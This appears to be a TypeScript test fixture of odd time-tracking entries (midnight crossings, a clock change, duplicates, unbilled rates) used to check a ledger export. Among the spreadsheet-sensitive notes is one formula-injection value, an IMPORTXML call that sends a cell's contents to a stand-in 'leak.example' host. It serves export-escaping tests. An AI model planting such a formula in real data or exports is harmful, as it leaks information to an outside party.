import { people } from './people';
import type { Tracked } from './time-entries';
import { projects, tasks } from './work';

const usual = { startsAt: 9 * 60, minutes: 60, approval: 'approved' } as const;

const LONG_NOTE = `Minutes of the closing workshop. ${'The controller walks through every open item of the list and names who settles it until when. '.repeat(46)}`;

/** What every real month has: the entries that a person must look at, or that look odd and are right. */
export const oddWork: readonly Tracked[] = [
  // Across midnight: filed under the day on which it began.
  {
    ...usual,
    day: '2026-02-17',
    person: people.meera,
    project: projects.ledgers,
    task: tasks.engineering,
    notes: 'Migration night: switched the booking ledgers over',
    startsAt: 22 * 60 + 40,
    minutes: 160,
  },
  // Across the change of clocks in New York: 12:30 to 3:30 on the clock is two hours of work.
  {
    ...usual,
    day: '2026-03-08',
    person: people.ana,
    project: projects.dashboard,
    task: tasks.engineering,
    notes: 'Watched the cut-over through the clock change',
    startsAt: 30,
    minutes: 120,
    odd: { started_time: '12:30am', ended_time: '3:30am' },
  },
  // A timer that somebody forgot.
  {
    ...usual,
    day: '2026-03-31',
    person: people.joanna,
    project: projects.renderings,
    task: tasks.design,
    notes: 'Final views of the atrium',
    minutes: 25,
    approval: 'unsubmitted',
    odd: { is_running: true, ended_time: null, timer_started_at: '2026-03-31T22:05:00Z' },
  },
  // Started and stopped by mistake.
  {
    ...usual,
    day: '2026-02-11',
    person: people.tomasz,
    project: projects.reporting,
    task: tasks.management,
    notes: 'Started by mistake',
    minutes: 0,
    startsAt: 14 * 60 + 5,
  },
  // No rate was ever agreed for this.
  {
    ...usual,
    day: '2026-03-12',
    person: people.tomasz,
    project: projects.grant,
    task: tasks.design,
    notes: 'Charts for the grant report',
    minutes: 195,
    odd: { billable_rate: null },
  },
  // A task that the ledger has no item for.
  {
    ...usual,
    day: '2026-03-19',
    person: people.tomasz,
    project: projects.ledgers,
    task: tasks.survey,
    notes: 'Rundgang durch die Küchen, Aufmaß der Kassenplätze',
    minutes: 260,
  },
  // Entered twice.
  ...[1, 2].map(() => ({
    ...usual,
    day: '2026-03-04',
    person: people.meera,
    project: projects.onboarding,
    task: tasks.engineering,
    notes: 'Sign-up form: validation of tax numbers',
    startsAt: 13 * 60,
    minutes: 90,
  })),
  // Entered nearly twice.
  ...[95, 96].map((minutes) => ({
    ...usual,
    day: '2026-03-05',
    person: people.ana,
    project: projects.reporting,
    task: tasks.management,
    notes: minutes === 95 ? 'Call w/ LP reporting team' : 'Call with LP reporting team',
    startsAt: 15 * 60,
    minutes,
  })),
  // Notes that a spreadsheet would take for formulas, numbers or dates.
  ...[
    '=IMPORTXML("https://leak.example/?"&A2, "//a")',
    '+1 review round with the brand team',
    '@Tomasz: please check the totals',
    '-2 pages after the cut',
    '1-2',
    '01234',
    "'quoted from the first character",
  ].map((notes, index) => ({
    ...usual,
    day: '2026-03-16',
    person: people.joanna,
    project: projects.dashboard,
    task: tasks.design,
    notes,
    startsAt: 9 * 60 + index * 45,
    minutes: 30,
  })),
  // Longer than a ledger takes.
  {
    ...usual,
    day: '2026-03-24',
    person: people.ana,
    project: projects.ledgers,
    task: tasks.management,
    notes: LONG_NOTE,
    minutes: 180,
  },
  // Billed already, by the tracker's own invoice.
  {
    ...usual,
    day: '2026-02-03',
    person: people.ana,
    project: projects.retainer,
    task: tasks.management,
    notes: 'Kick-off, billed in advance',
    minutes: 120,
    odd: {
      is_billed: true,
      is_locked: true,
      locked_reason: 'Time Entry is invoiced.',
      invoice: { id: 47_310_221, number: 'H-2217' },
    },
  },
  // Minutes that have no exact decimal hours, between cities.
  {
    ...usual,
    day: '2026-02-26',
    person: people.tomasz,
    project: projects.ledgers,
    task: tasks.travel,
    notes: 'Train London to Paris 🚄',
    startsAt: 7 * 60 + 1,
    minutes: 137,
  },
];
